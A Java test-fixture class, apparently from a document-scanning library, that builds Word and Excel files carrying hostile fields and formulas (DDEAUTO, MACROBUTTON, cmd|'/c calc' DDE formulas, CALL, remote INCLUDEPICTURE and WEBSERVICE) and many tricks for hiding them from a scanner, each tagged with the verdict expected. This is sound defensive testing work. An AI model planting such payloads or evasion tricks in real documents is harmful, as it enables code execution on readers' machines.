package io.github.ehckit.spi.content;

import static io.github.ehckit.spi.content.Fault.ACTIVE;
import static io.github.ehckit.spi.content.Fault.EXTERNAL;
import static io.github.ehckit.spi.content.Fault.HIDDEN;
import static io.github.ehckit.spi.content.Hostile.file;
import static io.github.ehckit.spi.content.Office.docx;
import static io.github.ehckit.spi.content.Office.docxRelatedTo;
import static io.github.ehckit.spi.content.Office.docxWith;
import static io.github.ehckit.spi.content.Office.xlsx;

import java.util.stream.Stream;

/** Documents of Word with fields, and workbooks of Excel with formulas, that run or fetch something (U8). */
final class HostileFields {
    static final String BEGIN = mark("begin");
    static final String SEPARATE = mark("separate");
    static final String END = mark("end");
    private static final String STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main";

    private HostileFields() {}

    static Stream<Hostile> rows() {
        return Stream.of(simple(), pieces(), places(), others(), excel()).flatMap(rows -> rows);
    }

    static String mark(String type) {
        return "<w:r><w:fldChar w:fldCharType='" + type + "'/></w:r>";
    }

    static String code(String code) {
        return "<w:r><w:instrText xml:space='preserve'>" + code + "</w:instrText></w:r>";
    }

    static byte[] document(String body) {
        return docx().with(Office.DOCUMENT, "<w:document><w:body><w:p>" + body + "</w:p></w:body></w:document>")
                .bytes();
    }

    static byte[] simple(String code) {
        return document("<w:fldSimple w:instr='" + code + "'/>");
    }

    private static Stream<Hostile> simple() {
        return Stream.concat(
                Stream.of(
                                "DDE a b",
                                " ddeauto a b",
                                "&#68;DEAUTO a",
                                "MACROBUTTON Evil Click",
                                "PRINT a",
                                "DDEAUTO\"a\"")
                        .map(code -> file("the field " + code, "a.docx", simple(code.replace("\"", "&quot;")), ACTIVE)),
                Stream.of(
                                "INCLUDEPICTURE \"http://example.org/a.png\" \\d",
                                "INCLUDEPICTURE \\d http://example.org/a.png",
                                "INCLUDEPICTURE \\\\\\\\example\\\\a.png",
                                "INCLUDEPICTURE \u201Chttps://example.org/a\u201D",
                                "IMPORT \"https://example.org/a.png\"",
                                "INCLUDETEXT \"c:\\\\a.docx\"",
                                "INCLUDE a.docx",
                                "LINK Excel.Sheet.12 \"a.xlsx\"",
                                "RD a.docx",
                                "DATABASE \\c \"DSN=a\"")
                        .map(code ->
                                file("the field " + code, "a.docx", simple(code.replace("\"", "&quot;")), EXTERNAL)));
    }

    private static Stream<Hostile> pieces() {
        return Stream.of(
                fields("a field in pieces", BEGIN + code("D") + code("DEA") + code("UTO a b") + END, ACTIVE),
                fields(
                        "a field in pieces with marks between",
                        BEGIN + code("DDE") + "<w:proofErr/>" + code("AUTO") + SEPARATE + END,
                        ACTIVE),
                fields("a field with a comment in its word", BEGIN + code("DDE<!-- a -->AUTO a") + END, ACTIVE),
                fields("a field in a section of characters", BEGIN + code("<![CDATA[DDEAUTO a]]>") + END, ACTIVE),
                fields("a field over paragraphs", BEGIN + code("DDE") + "</w:p><w:p>" + code("AUTO a") + END, ACTIVE),
                fields("a field that does not end", BEGIN + code("DDEAUTO a"), ACTIVE),
                fields("a field that does not begin", code("DDEAUTO a"), ACTIVE),
                fields(
                        "a field within another",
                        BEGIN + code("IF 1 = 1 ") + BEGIN + code("DDEAUTO a") + END + code(" a") + END,
                        ACTIVE),
                fields(
                        "a field in what another shows",
                        BEGIN + code("IF 1 = 1") + SEPARATE + BEGIN + code("DDEAUTO a") + END + END,
                        ACTIVE),
                fields(
                        "a field whose word another gives",
                        BEGIN + code(" ") + BEGIN + code("QUOTE 68 68 69") + END + code(" a b") + END,
                        ACTIVE),
                fields(
                        "a picture whose place another field gives",
                        BEGIN + code("INCLUDEPICTURE ") + BEGIN + code("DOCPROPERTY a") + END + END,
                        EXTERNAL),
                fields(
                        "a field after blanks without end",
                        BEGIN + code(" &#32;".repeat(5_000) + "DDEAUTO a") + END,
                        ACTIVE),
                fields(
                        "a field after more than is read",
                        BEGIN + code("&#32;".repeat(20_000) + "DDEAUTO a") + END,
                        HIDDEN),
                fields(
                        "a picture after blanks without end",
                        BEGIN + code("INCLUDEPICTURE" + "&#32;".repeat(4_100) + "https://example.org/a.png") + END,
                        EXTERNAL),
                fields(
                        "a link after blanks in pieces",
                        BEGIN + code("LINK") + code(" ").repeat(4_100) + code("a.xlsx") + END,
                        EXTERNAL),
                fields(
                        "a picture of more than is read",
                        BEGIN + code("INCLUDEPICTURE a" + "b".repeat(4_000) + " https://example.org/a.png") + END,
                        HIDDEN),
                fields(
                        "a picture of more arguments than it takes",
                        BEGIN + code("IMPORT" + " a".repeat(21)) + END,
                        HIDDEN),
                fields(
                        "a field whose word another ends",
                        BEGIN + code(" DD") + BEGIN + code("QUOTE 69") + END + code("AUTO a") + END,
                        ACTIVE),
                fields("a field after spaces that do not break", BEGIN + code("\u00A0DDEAUTO a") + END, ACTIVE),
                fields("fields without end", BEGIN.repeat(1_500), ACTIVE, HIDDEN),
                fields("a field that was deleted", BEGIN + "<w:delInstrText>DDE a</w:delInstrText>" + END, ACTIVE));
    }

    private static Stream<Hostile> places() {
        String field = "<a:p><a:fldSimple a:instr='DDEAUTO a'/></a:p>";
        return Stream.concat(
                Stream.of("header1", "footer1", "footnotes", "endnotes", "comments", "glossary/document")
                        .map(part ->
                                file("a field in " + part, "a.docx", docxWith("word/" + part + ".xml", field), ACTIVE)),
                Stream.of(
                        file(
                                "a field of the strict form",
                                "a.docx",
                                docxWith("word/a.xml", "<p xmlns='" + STRICT + "'><fldSimple instr='DDE a'/></p>"),
                                ACTIVE),
                        fields(
                                "a field in a text box",
                                "<w:pict><v:textbox><w:txbxContent><w:p>" + BEGIN + code("DDE a") + END
                                        + "</w:p></w:txbxContent></v:textbox></w:pict>",
                                ACTIVE),
                        file(
                                "a field after blanks that are cut off",
                                "a.docx",
                                simple("&#32;".repeat(5_000) + "DDEAUTO a"),
                                Fault.DAMAGED),
                        file(
                                "a field after spaces that do not break and are cut off",
                                "a.docx",
                                simple("\u00A0".repeat(2_000) + "DDEAUTO a"),
                                HIDDEN),
                        file(
                                "a picture after blanks that are cut off",
                                "a.docx",
                                simple("INCLUDEPICTURE" + " ".repeat(2_000) + "https://example.org/a.png"),
                                HIDDEN),
                        file(
                                "a macro after blanks that are cut off",
                                "a.docx",
                                simple("MACROBUTTON" + " ".repeat(2_000) + "Evil Click"),
                                HIDDEN)));
    }

    private static Stream<Hostile> others() {
        return Stream.of(
                file(
                        "a letter to many that asks a database",
                        "a.docx",
                        docxWith("word/settings.xml", "<w:mailMerge><w:connectString w:val='DSN=a'/></w:mailMerge>"),
                        EXTERNAL),
                file(
                        "an add-in by its relation",
                        "a.docx",
                        docxRelatedTo("webextensiontaskpanes", "webextensions/taskpanes.xml", ""),
                        EXTERNAL),
                file(
                        "an add-in by its type",
                        "a.docx",
                        docx().with(
                                        Office.TYPES,
                                        Office.types("/word/a.xml", "application/vnd.ms-office.webextension+xml"))
                                .bytes(),
                        EXTERNAL),
                fields("a drawing of a picture elsewhere", "<v:imagedata src='http://example.org/a.png'/>", EXTERNAL),
                fields("a drawing filled from a share", "<v:fill src='\\\\example\\a.png'/>", EXTERNAL));
    }

    private static Stream<Hostile> excel() {
        return Stream.of(
                formula("a program", "cmd|'/c calc'!A0", ACTIVE),
                formula("a program in quotes", "'cmd'|'/c calc'!A0", ACTIVE),
                formula("a library", "CALL(\"a\",\"b\")", ACTIVE),
                formula("a server of this computer", "RTD(\"a\",,\"b\")", ACTIVE),
                formula("a page", "_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)", EXTERNAL),
                formula("a picture from the web", "_xlfn.IMAGE(\"http://example.org/\")", EXTERNAL),
                formula("a program after a bracket that is none", "T[']\"]&amp;cmd|'/c calc'!A0&amp;\"x\"", ACTIVE),
                formula("a page after a bracket that is none", "T[']\"]&amp;WEBSERVICE(\"a\")&amp;\"x\"", EXTERNAL),
                formula("a program after an element", "cmd<q:x/>|'/c calc'!A0", ACTIVE),
                formula("a program after a formula", "1<f>1</f>cmd|'/c calc'!A0", ACTIVE),
                formula("for more brackets than a formula may be long", "[".repeat(65_000), HIDDEN),
                formula("a program after more than is read", "A".repeat(70_000) + "cmd|'/c calc'!A0", HIDDEN),
                formula("a program in an element that counts as its content", "<q:x m:ProcessContent='q:x'/>1", HIDDEN),
                file(
                        "a command as the source of a cell by its element",
                        "a.xlsx",
                        xlsx().deflated("xl/a.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>")
                                .bytes(),
                        ACTIVE),
                file(
                        "a name for a program",
                        "a.xlsx",
                        xlsx().with(
                                        "xl/workbook.xml",
                                        "<workbook><definedName name='a'>cmd|'/c'!A</definedName></workbook>")
                                .bytes(),
                        ACTIVE));
    }

    private static Hostile formula(String what, String formula, Fault fault) {
        String sheet = "<worksheet><c r='A1'><f>" + formula + "</f><v>1</v></c></worksheet>";
        return file(
                "a formula that asks " + what,
                "a.xlsx",
                xlsx().deflated("xl/worksheets/sheet1.xml", sheet).bytes(),
                fault);
    }

    private static Hostile fields(String what, String body, Fault... faults) {
        return file(what, "a.docx", document(body), faults);
    }
}
